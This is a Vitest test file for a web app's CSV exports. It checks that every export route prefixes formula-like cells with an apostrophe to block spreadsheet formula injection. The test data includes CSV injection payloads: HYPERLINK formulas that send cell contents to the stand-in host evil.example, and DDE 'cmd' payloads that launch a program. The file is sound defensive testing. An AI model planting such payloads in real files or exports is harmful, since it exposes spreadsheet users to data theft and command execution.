import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { db } from "#app/utils/db.server.ts";
import { createAccount, createExpectation, createStakeholder, createTouchpoint, createUser } from "#tests/factories/index.ts";
import { runImport } from "#tests/factories/imports.ts";
import { handle } from "#tests/setup/app-handler.ts";
import { request, sessionCookieFor } from "#tests/setup/requests.ts";

// Every CSV Kohtaamo writes, with text a spreadsheet would run as a formula in
// every text field that reaches it: no cell of any of them starts a formula
// (OWASP's list: =, +, -, @, tab, carriage return; line feed too), and each
// payload comes out whole behind an apostrophe. A new CSV route fails the first
// test until it is listed here.

const ROUTES_DIR = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../app/routes");

const PAYLOADS = {
  kam: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  account: "=cmd|' /C calc'!A0",
  industry: "+SUM(1+1)",
  stakeholder: "@SUM(1+1)",
  title: "-2+3+cmd|' /C calc'!A0",
  email: "=1+1@evil.example",
  phone: '=HYPERLINK("http://evil.example")',
  touchpoint: "\t=1+1",
  summary: "\r=1+1",
  invoice: "=INV+1",
  expectation: "@expectation",
  imported: '=HYPERLINK("http://evil.example/import")',
  word: "=1+WORD()",
};

const FORMULA = /^[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

async function world() {
  const kam = await createUser(db(), { role: "kam", name: PAYLOADS.kam });
  const account = await createAccount(db(), { owner_id: kam.id, name: PAYLOADS.account, industry: PAYLOADS.industry, external_id: "C-100" });
  const person = await createStakeholder(db(), { account_id: account.id, name: PAYLOADS.stakeholder, title: PAYLOADS.title, email: PAYLOADS.email, phone: PAYLOADS.phone });
  await createStakeholder(db(), { account_id: account.id, name: "Reports", reports_to_id: person.id });
  const tp = await createTouchpoint(db(), { account_id: account.id, kind: "invoice", title: PAYLOADS.touchpoint, summary: PAYLOADS.summary, author_id: kam.id });
  await db().insertInto("touchpoint_invoices").values({ account_id: account.id, touchpoint_id: tp.id, number: PAYLOADS.invoice, amount: "-100.50", due_date: "2024-02-01" }).execute();
  await createExpectation(db(), { account_id: account.id, title: PAYLOADS.expectation, holder_stakeholder_id: person.id });
  // The customer's own word on what they expected (the portal writes these).
  await db().insertInto("experience_ratings").values({ account_id: account.id, stakeholder_id: person.id, touchpoint_id: tp.id, rating: "below", word: PAYLOADS.word }).execute();
  // An import whose rejected rows repeat the uploaded cells, its header included.
  const job = await runImport(
    kam,
    "stakeholders",
    ["account;id;name;role;=HEADER()", `C-100;P-1;"${PAYLOADS.imported.replace(/"/g, '""')}";wizard;@x`].join("\n"),
    { mode: "valid_rows" },
  );
  expect(job.rejected).toBe(1);
  return { kam, account, job, cookie: await sessionCookieFor(kam.id) };
}

type World = Awaited<ReturnType<typeof world>>;

/** Every CSV route and the URL that downloads it, with the payloads it must carry. */
const CSV_ROUTES: Record<string, { url: (w: World) => string; carries: (keyof typeof PAYLOADS)[] }> = {
  "accounts[.]csv.ts": { url: () => "/accounts.csv?scope=all", carries: ["account", "industry", "kam"] },
  "portfolio[.]csv.ts": { url: () => "/portfolio.csv", carries: ["account", "kam"] },
  "accounts.$accountId.committee[.]csv.ts": {
    url: (w) => `/accounts/${w.account.id}/committee.csv`,
    carries: ["stakeholder", "title", "email", "phone"],
  },
  "accounts.$accountId.timeline[.]csv.ts": {
    url: (w) => `/accounts/${w.account.id}/timeline.csv`,
    carries: ["touchpoint", "summary", "invoice", "kam"],
  },
  "accounts.$accountId.expectations[.]csv.ts": {
    url: (w) => `/accounts/${w.account.id}/expectations.csv`,
    carries: ["expectation", "stakeholder"],
  },
  "import.$jobId.errors[.]csv.ts": { url: (w) => `/import/${w.job.id}/errors.csv`, carries: ["imported"] },
  // Figures and the catalogue's cell names only: no text anyone typed.
  "accounts.$accountId.experience[.]csv.ts": { url: (w) => `/accounts/${w.account.id}/experience.csv`, carries: [] },
  "portfolio.experience[.]csv.ts": { url: () => "/portfolio/experience.csv", carries: [] },
  "accounts.$accountId.expected[.]csv.ts": {
    url: (w) => `/accounts/${w.account.id}/expected.csv`,
    carries: ["stakeholder", "touchpoint", "word"],
  },
};

describe("every CSV neutralises formulas", () => {
  it("knows every CSV route", () => {
    const files = fs.readdirSync(ROUTES_DIR).filter((f) => /csv\.tsx?$/.test(f));
    expect(files.sort()).toEqual(Object.keys(CSV_ROUTES).sort());
  });

  it("writes no cell that starts a formula, and every payload behind an apostrophe", async () => {
    const w = await world();
    for (const [file, { url, carries }] of Object.entries(CSV_ROUTES)) {
      const response = await handle(request(url(w), { cookie: w.cookie }));
      expect(response.status, file).toBe(200);
      expect(response.headers.get("Cache-Control"), file).toBe("private, no-store");
      const text = await response.text();
      const rows = parse(text, { bom: true, delimiter: [",", ";"], relax_column_count: true }) as string[][];
      expect(rows.length, file).toBeGreaterThan(1);
      for (const cell of rows.flat()) {
        if (FORMULA.test(cell)) expect(cell, `${file}: ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
      }
      const cells = new Set(rows.flat());
      for (const key of carries) expect(cells.has(`'${PAYLOADS[key]}`), `${file} carries ${key}`).toBe(true);
    }
  });
});
